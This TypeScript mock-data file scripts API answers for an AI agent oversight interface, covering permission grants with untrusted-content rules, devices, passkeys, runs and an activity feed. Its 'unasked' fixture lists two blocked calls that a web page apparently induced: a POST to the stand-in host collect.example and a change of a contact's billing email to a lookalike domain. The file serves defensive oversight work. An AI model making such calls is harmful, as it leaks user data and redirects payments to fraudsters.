/** Scripted answers about grants, devices and the feed. */

import { id, minutes } from './ids.ts'
import type { ScriptedAnswer } from './scripted-answer.ts'

const day = 1_440

/** `devices=looks` shows a browser that only looks, `devices=alone` the only device and no passkey. */
const asked = () => new URLSearchParams(window.location.search).get('devices')

const grant = (number: number, sentence: string, other: Record<string, unknown> = {}) => ({
  id: id('gr', number),
  sentence,
  tool: sentence.slice(0, sentence.indexOf(':')),
  approval: id('apr', number),
  createdAt: minutes(-6 * day),
  expiresAt: minutes(24 * day),
  uses: 14,
  maxUses: 100,
  lastUsedAt: minutes(-90),
  agent: 'assistant',
  goal: null,
  session: null,
  run: null,
  untrusted: false,
  unusedEndsAt: minutes(24 * day),
  state: 'active',
  ...other,
})

const grants = () => [
  grant(1, 'http_request: GET https://api.stripe.com:443 for this goal, up to 100 times, for 30 days', {
    agent: null,
    goal: 'goal_1',
  }),
  grant(
    2,
    'json_api: look at any address of https://docs.rs:443 with GET or HEAD for this agent, up to 100 times, for 30 days; also in a task that has read untrusted content: docs.rs can then learn what that task knows',
    { tool: 'json_api', untrusted: true },
  ),
  grant(
    3,
    'write_file: create plain files in books/2026-08 for this agent, as often as needed, for 365 days; a task that has read untrusted content asks again',
    {
      expiresAt: minutes(300 * day),
      maxUses: null,
      uses: 61,
      lastUsedAt: minutes(-12),
    },
  ),
  grant(4, 'http_request: GET https://api.weather.example:443 in this session, up to 20 times, for a day', {
    agent: null,
    session: id('ses', 3),
    expiresAt: minutes(300),
    maxUses: 20,
    uses: 3,
  }),
  grant(5, 'search_web: whatever it touches anywhere, as often as needed, until revoked', {
    agent: null,
    expiresAt: minutes(300 * day),
    maxUses: null,
    uses: 2,
    createdAt: minutes(-80 * day),
    lastUsedAt: minutes(-44 * day),
  }),
  grant(6, 'http_request: this exact call in this run, up to 3 times, for 30 minutes', {
    approval: null,
    run: id('run', 1),
    agent: null,
    expiresAt: minutes(22),
    maxUses: 3,
    uses: 0,
    lastUsedAt: null,
    createdAt: minutes(-8),
  }),
  grant(
    9,
    'read_file: read in scans for this agent, as often as needed, for 90 days; a task that has read untrusted content asks again',
    {
      tool: 'read_file',
      state: 'unused',
      maxUses: null,
      uses: 4,
      createdAt: minutes(-60 * day),
      lastUsedAt: minutes(-31 * day),
    },
  ),
  grant(7, 'http_request: GET https://old.example:443 for this agent, up to 10 times, for 30 days', {
    state: 'revoked',
  }),
  grant(8, 'fetch_feed: GET https://news.example:443 for this agent, up to 10 times, for 30 days', {
    state: 'used',
    uses: 10,
    maxUses: 10,
  }),
]

const whatCan = (agent: string | null) => ({
  agent,
  autonomy: 'medium',
  free: [
    'medium: reads and undoable changes run without asking',
    'medium: can read websites you mentioned, unless private data was used',
  ],
  rules: [
    { id: 'books.write', file: 'books.cedar', line: 3, why: 'the bookkeeping folder is for the agent' },
    { id: 'web.docs', file: 'web.cedar', line: 12, why: 'documentation sites may be read' },
  ],
  grants: grants().filter(
    ({ state, agent: own }) => state === 'active' && (own === null || own === agent || agent === null),
  ),
  passkeyTools: ['execute_shell', 'transfer_money'],
})

const agent = (own: string, name: string, description: string, other: Record<string, unknown> = {}) => ({
  id: own,
  name,
  description,
  systemPrompt: 'You help.',
  model: 'default',
  tools: [],
  toolGroups: [],
  conversational: true,
  triggers: { keywords: [] },
  enabled: true,
  kind: 'user',
  builtIn: true,
  changed: false,
  isDefault: own === 'assistant',
  label: null,
  updatedAt: null,
  ...other,
})

const item = (text: string, refs: readonly number[], other: Record<string, unknown> = {}) => ({
  text,
  refs,
  goal: null,
  run: null,
  untrusted: false,
  unusedEndsAt: minutes(24 * day),
  undoable: false,
  ...other,
})

const run = (number: number, asked: string, calls: number, costUsd: number) => ({
  id: id('run', number),
  session: id('ses', number),
  input: id('inp', number),
  kind: 'agent',
  state: 'stopped',
  parkedOn: null,
  reason: 'completed',
  message: '',
  turns: 3,
  segments: 1,
  startedAt: minutes(-310),
  endedAt: minutes(-299),
  retry: null,
  text: '',
  asked,
  agent: 'assistant',
  goal: null,
  schedule: null,
  tools: ['write_file'],
  calls,
  callsWaiting: 0,
  detailsRemovedAt: null,
  problems: 0,
  undoable: 1,
  undone: 0,
  tier: 1,
  costUsd,
  waitedMs: 0,
})

const call = (number: number, headline: string, tier: number, undoable: boolean) => ({
  id: id('call', number),
  parent: null,
  turn: 1,
  tool: 'write_file',
  headline,
  args: '{}',
  tier,
  decision: null,
  state: 'ended',
  outcome: 'ok',
  summary: headline,
  result: '',
  approval: null,
  undoable,
  undone: false,
  intendedAt: minutes(-301),
  startedAt: minutes(-301),
  endedAt: minutes(-300),
})

const device = (
  number: number,
  name: string,
  platform: string,
  reach: number,
  other: Record<string, unknown> = {},
) => ({
  id: id('dev', number),
  name,
  platform,
  key: btoa(String(number).padStart(32, 'k')),
  reach,
  addedAt: minutes(-30 * day * number),
  revokedAt: null,
  root: false,
  seenAt: minutes(-5 * number),
  connections: 0,
  thisOne: false,
  ...other,
})

const requestId = '0'.repeat(31)
const request = (number: number, name: string, platform: string) => ({
  id: `${requestId}${number}`,
  device: id('dev', 20 + number),
  key: btoa(String(number).padStart(32, 'q')),
  name,
  platform,
  reach: 3,
  nonce: 'n'.repeat(22),
  proof: null,
  createdAt: minutes(-1),
  expiresAt: minutes(9),
})

function deviceList() {
  const own = device(1, 'Chrome on Mac', 'Mac', asked() === 'looks' ? 0 : 3, {
    thisOne: true,
    connections: 2,
    addedAt: minutes(-89 * day),
  })
  const others = [
    device(9, 'books', 'Linux', 3, { root: true, addedAt: minutes(-90 * day) }),
    device(2, 'Mira’s phone', 'iPhone', 2, { connections: 1, addedAt: minutes(-20 * day) }),
    device(3, 'Kitchen tablet', 'Android', 0, { seenAt: null, addedAt: minutes(-9 * day) }),
    device(4, 'Old laptop', 'Windows', 3, { revokedAt: minutes(-3 * day) }),
  ]
  const passkey = {
    credential: 'c'.repeat(22),
    name: 'Fingerprint of this laptop',
    site: 'localhost',
    addedAt: minutes(-89 * day),
    revokedAt: null,
  }
  return asked() === 'alone'
    ? {
        devices: [own],
        passkeys: [],
        origins: [],
        problems: ['statement 3: signed by a device that is unknown or revoked'],
      }
    : {
        devices: [own, ...others],
        passkeys: [passkey],
        origins: [
          { origin: 'https://books.tail1234.ts.net', served: true, acceptedAt: minutes(-20 * day) },
          { origin: 'https://home.example.org', served: true, acceptedAt: null },
          { origin: 'https://old.example.org:8443', served: false, acceptedAt: minutes(-80 * day) },
        ],
        problems: [],
      }
}

/** What strangers wanted in one conversation: one row, of which not all is kept. */
const unasked = () => [
  {
    id: id('un', 1),
    session: id('ses', 1),
    count: 23,
    calls: [
      {
        call: id('call', 71),
        run: id('run', 1),
        tool: 'http_request',
        headline: 'POST https://collect.example/in',
        tier: 3,
        reason: 'Others would see it, and the task has read a web page.',
        at: minutes(-3),
      },
      {
        call: id('call', 72),
        run: id('run', 1),
        tool: 'update_contact',
        headline: 'Change the contact “Printhaus”: billing@printhaus-pagamento.example',
        tier: 2,
        reason: 'The task has read a web page and would change something.',
        at: minutes(-3),
      },
    ],
    at: minutes(-3),
  },
]

export const oversightAnswers: Readonly<Record<string, ScriptedAnswer>> = {
  'GET /v1/grants': grants,
  'GET /v1/sessions/*/asked-for': () => [],
  'GET /v1/unasked': unasked,
  'POST /v1/unasked/*/dismiss': () => ({ ok: true, ledger: 48_231 }),
  'POST /v1/unasked/*/ask': () => ({ session: id('ses', 1), run: id('run', 9), ledger: 48_232 }),
  'POST /v1/grants/*/revoke': () => ({ ok: true, ledger: 48_230 }),
  'POST /v1/grants/coverage': () => ({
    of: 200,
    stops: [false, true].map((untrusted) => ({
      stop: 'target',
      untrusted,
      sentence: `json_api: look at any address of https://api.natureobs.example:443 with GET for this agent, as often as needed, for 30 days; ${
        untrusted
          ? 'also in a task that has read untrusted content: api.natureobs.example can then learn what that task knows'
          : 'a task that has read untrusted content asks again'
      }`,
      broad: false,
      covered: untrusted ? 14 : 5,
      asked: untrusted ? 9 : 2,
      examples: [
        {
          headline: 'GET https://api.natureobs.example/v1/observations?taxon=Salix',
          tier: 3,
          at: minutes(-90),
          run: id('run', 40),
        },
      ],
      nearest: null,
      above: untrusted ? 1 : 10,
    })),
    suggested: { stop: 'target', untrusted: true },
  }),
  'POST /v1/grants/prune': () => ({ grants: grants().slice(4, 5), ledger: null }),
  'POST /v1/grants/suggestions/*/take': () => ({ grant: id('gr', 90), sentence: '', ledger: 48_231 }),
  'GET /v1/grants/suggestions': () => [
    {
      id: '4be1c07a95d2f3e8',
      sentence:
        'json_api: look at any address of https://api.natureobs.example:443 with GET or HEAD for this agent, as often as needed, for 30 days; also in a task that has read untrusted content: api.natureobs.example can then learn what that task knows',
      tool: 'json_api',
      agent: 'assistant',
      stop: 'target',
      untrusted: true,
      answers: 9,
      of: 41,
      examples: ['taxon=Salix', 'taxon=Alnus', 'taxon=Iris'].map((query, at) => ({
        headline: `GET https://api.natureobs.example/v1/observations?${query}`,
        tier: 3,
        at: minutes((at + 1) * -90),
        run: id('run', 40 + at),
      })),
      approval: id('apr', 91),
    },
    {
      id: '11f0a2c47be95d38',
      sentence:
        'read_file: read /home/mira/scans/inbox.csv on this computer for this agent, as often as needed, for 30 days; a task that has read untrusted content asks again',
      tool: 'read_file',
      agent: 'assistant',
      stop: 'target',
      untrusted: false,
      answers: 3,
      of: 41,
      examples: [],
      approval: id('apr', 92),
    },
  ],
  'GET /v1/what-can': ({ search }) => whatCan(search.get('agent')),
  'GET /v1/agents': () => [
    agent('assistant', 'Assistant', 'Talks with you across everything.'),
    agent('goal', 'Goal agent', 'Works towards one goal at a time.', { kind: 'goal' }),
    agent('researcher', 'Researcher', 'Reads the web and writes notes.', {
      kind: 'custom',
      builtIn: false,
      toolGroups: ['web', 'notes'],
      dataAccess: ['notes', 'bookmarks'],
    }),
  ],
  'GET /v1/feed': () => [
    {
      id: 'feed_2',
      at: minutes(-40),
      from: 48_100,
      upTo: 48_200,
      by: 'model',
      run: null,
      items: [
        item('The automation “Watch the price list” missed 2 times.', [48_120]),
        item(
          '“Morning brief” was done. Done: Write brief-2026-11-15.md; Mark 4 messages as read.',
          [48_150, 48_151, 48_152, 48_153, 48_154],
          { run: id('run', 3), undoable: true },
        ),
        item('Nine receipts of August are filed. One is missing: the invoice of Stripe.', [48_190, 48_191], {
          run: id('run', 1),
          goal: 'goal_1',
          undoable: true,
        }),
      ],
    },
    {
      id: 'feed_1',
      at: minutes(-1_500),
      from: 48_000,
      upTo: 48_100,
      by: 'digest',
      run: null,
      items: [item('“Travel to Lisbon” was stopped by you. 1 refused.', [48_044], { run: id('run', 2) })],
    },
  ],
  'POST /v1/questions/*/answer': () => ({ ok: true, ledger: 48_214 }),
  'POST /v1/feed': () => ({
    feed: { id: 'feed_3', at: minutes(0), from: 48_200, upTo: 48_212, items: [], by: 'digest', run: null },
    ledger: 48_213,
  }),
  'GET /v1/runs': () => [run(1, 'File the August receipts', 12, 0.031), run(3, 'Morning brief', 9, 0.088)],
  'GET /v1/runs/*': ({ parts }) => ({
    run: { ...run(3, 'Morning brief', 9, 0.088), id: parts[2] },
    calls: [
      call(1, 'Write brief-2026-11-15.md', 1, true),
      call(2, 'Mark 4 messages as read', 1, true),
      call(3, 'Send 1 email to ana@kovac.example', 3, false),
    ],
    approvals: [],
    reasoning: [{ turn: 1, text: 'The brief first, then the mail that needs an answer.' }],
  }),
  'POST /v1/runs/*/undo': () => ({ run: id('run', 9), calls: 2, ledger: 48_240 }),
  'GET /v1/devices': deviceList,
  'POST /v1/devices/statements': () => ({ ok: true, ledger: 48_250 }),
  'POST /v1/devices/*/rename': () => ({ ok: true, ledger: 48_251 }),
  'GET /v1/pairing': () => ({
    gateway: id('gw', 1),
    key: btoa('g'.repeat(32)),
    name: 'books',
    passkeys: true,
  }),
  'GET /v1/pairing/requests': () => (asked() === 'alone' ? [] : [request(1, 'Safari on iPhone', 'iPhone')]),
  [`POST /v1/pairing/*/${requestId}1/refuse`]: () => ({ ok: true, ledger: 48_252 }),
}
